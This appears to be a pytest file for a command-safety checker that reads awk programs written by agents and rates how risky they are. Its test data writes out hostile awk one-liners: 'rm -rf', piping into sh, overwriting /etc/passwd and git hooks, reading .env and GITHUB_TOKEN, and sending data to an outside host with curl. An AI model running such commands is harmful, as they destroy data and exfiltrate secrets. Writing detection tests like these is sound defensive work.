"""Awk that agents write all day is read, and is no graver than what it does."""

from __future__ import annotations

import pytest

from tests.core.policy.calls import judge_command
from watchgate.core.model.assessment import severity
from watchgate.core.policy.code.code_reading import CodeReading, UnknownWord, read

PRINTS = [
    "{print $1}",
    "$1 > 5 {print $2}",
    "{print ($1 > 5)}",
    '{print ($1 > 0 ? "more" : "less")}',
    '{printf "%s|%s\\n", $1, $2}',
    '{print "system(x) | sh > y"}',
    '{print "a > b" $1}',
    "{if ($1 > m) m = $1} END {print m}",
    "!seen[$0]++",
    "NR==FNR {a[$1] = $2; next} $1 in a {print $0, a[$1]}",
    "{a[$1]++} END {for (k in a) print k, a[k]}",
    "/a\\/b/ && !/c/ {n++} END {print n / 2, (n + 1) / 2}",
    '{gsub(/[/]/, "_"); print}',
    "/[^/]+$/",
    "/^[[:space:]]*#/ {next} {print}",
    '{sub(/^[ \\t]+/, ""); print}',
    "function f(x) {return x * 2} {print f($1)}",
    'BEGIN {FS = ","} {s += $3} END {printf("%.2f\\n", s)}',
    "NR > 1 {print} # it's | getline",
    "/start/, /end/",
    "length($0) > 100",
    "NF {NF -= 1}; 1",
    '{print $1, $2 > "/dev/stderr"}',
    '{print > "/dev/null"}',
    "{while ((getline line) > 0) print line}",
    'END {print NR " lines > 5"}',
    '{print substr($0, 1, 5) "system"}',
    "{split($0, parts, /,/); print parts[1]}",
]

ACTS = {
    'BEGIN {system("git status")}': ("sh", "-c", "git status"),
    'BEGIN {"date" | getline d; print d}': ("sh", "-c", "date"),
    '{print | "sort -n"}': ("sh", "-c", "sort -n"),
    '{print $1 > "out.txt"}': ("tee", "out.txt"),
    '{print ($1 > 5) >> "log"}': ("tee", "-a", "log"),
    'BEGIN {while ((getline l < "f") > 0) print l}': ("cat", "f"),
    'BEGIN {print ENVIRON["HOME"]}': ("printenv", "HOME"),
    "BEGIN {for (k in ENVIRON) print k}": ("printenv",),
    '{print > $1 ".txt"}': ("tee", UnknownWord()),
    '{print > ("log_" NR)}': ("tee", UnknownWord()),
}

UNREAD = [
    "{system($0)}",
    '{system("rm " $1)}',
    '{cmd = "date"; cmd | getline x}',
    "{$0 | getline}",
    "{print | $1}",
    '{print | "sh " $1}',
    'BEGIN {ARGV[1] = "/etc/shadow"; ARGC = 2}',
    'BEGIN {SYMTAB["ARGC"] = 1}',
    '@load "filefuncs"',
    '@include "x"',
    '{f = "system"; @f("id")}',
    'BEGIN {print > "/inet/tcp/0/x.example/80"}',
    'BEGIN {getline x < "/inet/tcp/0/x.example/80"}',
    'if (1) /"/; system(x); /"/',
    '{print "a}',
    '{getline a[1] < "x"}',
    "`id`",
    "/a",
]

GRAVE = [
    "awk 'BEGIN {system(\"rm -rf /\")}'",
    "awk 'BEGIN {system(\"rm\\x20-rf /\")}'",
    "awk 'BEGIN {\"rm -rf /srv\" | getline}'",
    "awk '{print | \"sh\"}' f",
    'awk \'{print "x" | "bash -s"}\' f',
    "gawk 'BEGIN {\"sh\" |& getline}'",
    "awk '{print > \"/etc/passwd\"}' f",
    "awk '{print > \".git/hooks/pre-commit\"}' f",
    "awk 'BEGIN {getline x < \".env\"; print x}'",
    "awk 'BEGIN {print ENVIRON[\"GITHUB_TOKEN\"]}'",
    "awk '{print | \"curl -d @- https://x.example\"}' f",
    "gawk -i inplace '{system(\"x\")}' f",
    'awk "BEGIN {system(\\"$x\\")}"',
    "gawk -e 'BEGIN {system(\"rm -rf /srv\")}'",
    "mawk -- 'BEGIN {system(\"rm -rf /srv\")}'",
    "awk -F: -v x=1 'BEGIN {system(\"rm -rf /srv\")}' f",
]


@pytest.mark.parametrize("code", PRINTS)
def test_what_only_prints_stands_for_no_command(code: str) -> None:
    assert read("awk", code) == CodeReading()


@pytest.mark.parametrize(("code", "command"), ACTS.items())
def test_what_acts_stands_for_the_command_that_does_the_same(
    code: str, command: tuple[str, ...]
) -> None:
    assert read("awk", code) == CodeReading((command,))


@pytest.mark.parametrize("code", UNREAD)
def test_what_cannot_be_followed_is_unread(code: str) -> None:
    assert read("awk", code).unread


@pytest.mark.parametrize("command", GRAVE)
def test_it_is_as_grave_as_what_it_does(command: str) -> None:
    found = judge_command(command)

    assert severity(found.risk) >= severity("high"), found


@pytest.mark.parametrize("code", PRINTS)
def test_what_only_prints_is_allowed(code: str) -> None:
    if "getline" not in code and "system(" not in code:
        quoted = code.replace("'", "'\\''")

        assert judge_command(f"awk '{quoted}' f").decision == "allow"
